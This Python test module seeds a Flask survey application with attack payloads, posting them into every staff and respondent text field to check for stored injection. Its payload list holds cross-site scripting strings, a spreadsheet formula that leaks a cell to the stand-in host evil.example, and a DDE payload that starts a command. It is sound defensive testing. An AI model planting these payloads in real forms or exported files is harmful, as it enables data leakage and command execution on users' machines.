"""Attack payloads typed into every text field the app offers, for the sweep tests.

`seed` takes a Kommune built by `sweep_world.build_kommune`, opens every page of the url map as its
administrator and posts every form that has a text field with a payload in each of them (script
and formula payloads in turn, so each kind lands in many places); then it answers the survey as
the respondents do, every text field and a repeated group entry with payloads too. What a form
refuses (a payload as an address, a link that is no URL) is simply not stored.
"""

from __future__ import annotations

import re

from flask import url_for
from werkzeug.datastructures import MultiDict

from factories import login
from test_edit_conflicts import _Forms

SCRIPT = '<script>window.__sweep = "script"</script>'
ATTRIBUTE = '"><img src=x onerror="window.__sweep = \'img\'">'
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klick")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"]
PAYLOADS = [SCRIPT, ATTRIBUTE, *FORMULAS]
# The markup a payload becomes when it is put into HTML unescaped (escaped it reads &lt;script&gt; …).
RAW_MARKUP = re.compile(r"<script>window\.__sweep|<img src=x onerror")
# A cell a spreadsheet would run: starts with = + - @ (or tab/CR before one) and is no plain number.
FORMULA_CELL = re.compile(r"^[\t\r]*[=+\-@]")
NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)*(?:\s*%)?$")
# Forms that would end the sweep's own session or account, or that need a file.
SKIP_ACTIONS = ("/logout", "/konto/passwort", "/login", "/passwort", "/actors/import", "/admin/benutzer/")


class _TextForms(_Forms):
    """The forms of a page; text inputs asking for a number (`inputmode`) are noted as such."""

    def handle_starttag(self, tag, attrs):
        super().handle_starttag(tag, attrs)
        a = dict(attrs)
        if self._form is not None and tag == "input" and a.get("inputmode") in ("numeric", "decimal"):
            self._form.setdefault("numeric", set()).add(a.get("name"))


def fill(form: dict, offset: int) -> tuple[list[tuple[str, str]], list[str]]:
    """The form's fields with a payload in every text field (e-mail and number fields keep their value)."""
    texts = [name for name, kind in form["texts"] if kind != "email" and name not in form.get("numeric", ())]
    chosen = {name: PAYLOADS[(offset + n) % len(PAYLOADS)] for n, name in enumerate(texts)}
    fields = [(name, chosen.get(name, value)) for name, value in form["fields"]]
    for name in set(texts) - {n for n, _v in form["fields"]}:
        fields.append((name, chosen[name]))
    if form["submit"]:
        fields.append(form["submit"])
    return fields, list(chosen.values())


def forms_of(html: str, url: str) -> list[dict]:
    parser = _TextForms()
    parser.feed(html)
    for form in parser.forms:
        form["action"] = form["action"] or url
    return parser.forms


def staff_pages(app, world: dict) -> list[str]:
    """Every GET page of the url map with this Kommune's ids (no files, no respondent pages)."""
    from test_sweep_tenancy import _rules, _values  # the same argument values as the tenancy sweep

    urls = []
    with app.test_request_context():
        for rule in _rules(app):
            if "GET" not in rule.methods or set(rule.arguments) & {"token", "filename"}:
                continue
            if "fmt" in rule.arguments or "ext" in rule.arguments or rule.rule.endswith((".pdf", ".xlsx", ".csv",
                                                                                         ".graphml")):
                continue
            urls.append(url_for(rule.endpoint, **_values(rule, world)))
    ids = world["ids"]
    urls += [f"/surveys/{ids['draft']}", f"/surveys/{ids['draft']}/edit", f"/surveys/{ids['draft']}/invitations/text",
             f"/surveys/{ids['draft']}/items/{ids['item_id']}/edit", f"/surveys/{ids['wave']}/invitations/text",
             f"/waves/{ids['wave']}/einladungen", f"/surveys/{ids['draft']}/eigene-frage",
             f"/surveys/{ids['running']}/items/{ids['running_item_id']}/korrigieren"]
    return list(dict.fromkeys(urls))


def seed(app, world: dict) -> dict:
    """Post payloads into every staff form and every respondent field; returns what was posted."""
    admin = login(app.test_client(), world["emails"]["admin"])
    posted, offset = [], 0
    for url in staff_pages(app, world):
        response = admin.get(url)
        if response.status_code != 200 or "html" not in (response.content_type or ""):
            continue
        for form in forms_of(response.get_data(as_text=True), url):
            action = form["action"].split("#")[0]
            if not form["texts"] or action.startswith(SKIP_ACTIONS) or action.startswith("/r/"):
                continue
            fields, values = fill(form, offset)
            offset += 1
            answer = admin.post(action, data=MultiDict(fields))
            assert answer.status_code < 500, (action, answer.status_code)
            posted.append(action)
            if answer.status_code != 302:  # refused as a whole (a link field, an address): one field at a time
                for name, _kind in form["texts"]:
                    _post_one_field(admin, url, action, name, PAYLOADS[offset % len(PAYLOADS)])
                    offset += 1
    answered = [answer_with_payloads(app, token) for token in world["tokens"][:2]]
    respondent = app.test_client()
    submitted = respondent.post(f"/r/{world['tokens'][1]}/pruefen")
    assert submitted.status_code == 302, re.findall(r'class="[^"]*error[^"]*"[^>]*>([^<]+)',
                                                    submitted.get_data(as_text=True))
    return {"staff_forms": posted, "respondent_fields": sum(answered, [])}


def _post_one_field(client, url: str, action: str, name: str, payload: str) -> None:
    """The form as the page shows it now (a fresh edit version), with `payload` in one text field."""
    page = client.get(url).get_data(as_text=True)
    form = next((f for f in forms_of(page, url) if f["action"].split("#")[0] == action), None)
    if form is None:
        return
    fields = [(n, payload if n == name else v) for n, v in form["fields"]]
    fields += [form["submit"]] if form["submit"] else []
    assert client.post(action, data=MultiDict(fields)).status_code < 500, (action, name)


def answer_with_payloads(app, token: str) -> list[str]:
    """Go through the respondent's pages and entries, every text field a payload; returns the field names."""
    client = app.test_client()
    client.post(f"/r/{token}/start")
    names, offset, number = [], 0, 1
    while number < 20:
        url = f"/r/{token}/seite/{number}"
        response = client.get(url)
        if response.status_code != 200:
            break
        for form in forms_of(response.get_data(as_text=True), url):
            if form["action"].split("?")[0] != url or not form["texts"]:
                continue
            fields, _values = fill(form, offset)
            offset += 1
            names += [n for n, kind in form["texts"] if kind != "email"]
            assert client.post(url, data=MultiDict(fields)).status_code < 500
        entries = []
        for key in re.findall(r'name="_action" value="add:([^"]+)"', response.get_data(as_text=True)):
            form = next(f for f in forms_of(client.get(url).get_data(as_text=True), url)
                        if f["action"].split("?")[0] == url)
            added = client.post(url, data=MultiDict([tuple(f) for f in form["fields"]] + [("_action", f"add:{key}")]))
            assert added.status_code == 302, (url, key, added.status_code)
            entries.append(added.headers["Location"].split("?")[0].split("#")[0])
        for entry in entries:
            page = client.get(entry)
            for form in forms_of(page.get_data(as_text=True), entry):
                if form["action"].split("?")[0] == entry and form["texts"]:
                    fields, _values = fill(form, offset)
                    offset += 1
                    names += [n for n, kind in form["texts"] if kind != "email"]
                    assert client.post(entry, data=MultiDict(fields)).status_code < 500
        number += 1
    return names
